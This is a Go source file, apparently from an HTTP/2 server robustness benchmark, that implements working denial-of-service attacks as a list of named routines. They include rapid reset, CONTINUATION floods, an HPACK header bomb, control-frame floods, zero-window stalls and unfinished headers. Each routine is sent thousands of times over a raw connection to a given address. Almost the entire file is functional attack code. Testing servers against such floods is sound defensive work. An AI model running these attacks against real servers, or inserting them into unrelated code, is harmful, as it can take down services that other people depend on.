package abuse

import (
	"bytes"
	"io"
	"net"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// attack is one way to make a server work, or wait, for nothing.
type attack struct {
	name string
	send func(a *attacker)
}

// plenty is how often a connection does its worst: far more than any budget.
const plenty = 5000

var attacks = []attack{
	{"rapid reset", each(func(a *attacker, i int) {
		a.head(i, true)
		_ = a.framer.WriteRSTStream(stream(i), http2.ErrCodeCancel)
	})},
	{"made you reset", each(func(a *attacker, i int) {
		a.head(i, true)
		_ = a.framer.WriteWindowUpdate(stream(i), 0)
	})},
	{"CONTINUATION", func(a *attacker) {
		_ = a.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: a.block})
		for range plenty {
			_ = a.framer.WriteContinuation(1, false, nil)
		}
	}},
	{"header bomb", each(func(a *attacker, i int) {
		// A field of 4,000 bytes goes into the table, and is then named 4,000 times.
		_ = a.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream(i), BlockFragment: a.bomb, EndHeaders: true, EndStream: true})
	})},
	{"PING", each(func(a *attacker, _ int) { _ = a.framer.WritePing(false, [8]byte{}) })},
	{"SETTINGS", each(func(a *attacker, _ int) { _ = a.framer.WriteSettings() })},
	{"WINDOW_UPDATE", each(func(a *attacker, _ int) { _ = a.framer.WriteWindowUpdate(0, 1) })},
	{"PRIORITY", each(func(a *attacker, i int) { _ = a.framer.WritePriority(stream(i), http2.PriorityParam{}) })},
	{"empty DATA", func(a *attacker) {
		a.head(0, false)
		for range plenty {
			_ = a.framer.WriteData(1, false, nil)
		}
	}},
	{"zero window", func(a *attacker) {
		_ = a.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
		for i := range 100 {
			a.head(i, true)
		}
	}},
	{"unfinished heads", func(a *attacker) {
		_ = a.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: a.block})
	}},
}

func each(do func(a *attacker, i int)) func(*attacker) {
	return func(a *attacker) {
		for i := range plenty {
			do(a, i)
		}
	}
}

func stream(i int) uint32 { return uint32(2*i + 1) }

// attacker is one connection.
type attacker struct {
	framer *http2.Framer
	block  []byte // the head of a request
	bomb   []byte
}

func (a *attacker) head(i int, end bool) {
	_ = a.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream(i), BlockFragment: a.block, EndHeaders: true, EndStream: end})
}

// strike opens a connection, sends what the attack does, and waits until the
// server has had enough or the time is over. What fails on the way is the server
// defending itself.
func (k *attack) strike(addr string, d time.Duration) {
	c, err := net.Dial("tcp", addr)
	if err != nil {
		return
	}
	defer func() { _ = c.Close() }()
	_ = c.SetDeadline(time.Now().Add(d))
	var out bytes.Buffer
	out.WriteString(http2.ClientPreface)
	a := &attacker{framer: http2.NewFramer(&out, nil), block: block(), bomb: bomb()}
	a.framer.AllowIllegalWrites = true
	_ = a.framer.WriteSettings()
	k.send(a)
	go func() { _, _ = c.Write(out.Bytes()) }()
	_, _ = io.Copy(io.Discard, c)
}

func block() []byte {
	var b bytes.Buffer
	e := hpack.NewEncoder(&b)
	for _, f := range [][2]string{{":method", "GET"}, {":scheme", "http"}, {":authority", "a"}, {":path", "/bench"}} {
		_ = e.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	return b.Bytes()
}

func bomb() []byte {
	var b bytes.Buffer
	b.Write(block())
	e := hpack.NewEncoder(&b)
	f := hpack.HeaderField{Name: "x", Value: string(bytes.Repeat([]byte{'a'}, 4000))}
	for range 4000 {
		_ = e.WriteField(f)
	}
	return b.Bytes()[:min(b.Len(), 16<<10)]
}
